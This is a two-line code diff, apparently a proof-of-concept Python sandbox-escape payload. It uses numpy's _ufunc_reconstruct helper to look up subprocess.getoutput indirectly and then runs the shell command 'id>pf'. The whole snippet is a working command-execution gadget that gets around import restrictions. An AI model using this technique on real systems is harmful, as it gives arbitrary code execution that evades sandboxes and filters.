@@ -1,0 +1,2 @@
+from numpy.core import _ufunc_reconstruct as find
+find("subprocess", "getoutput")("id>pf")
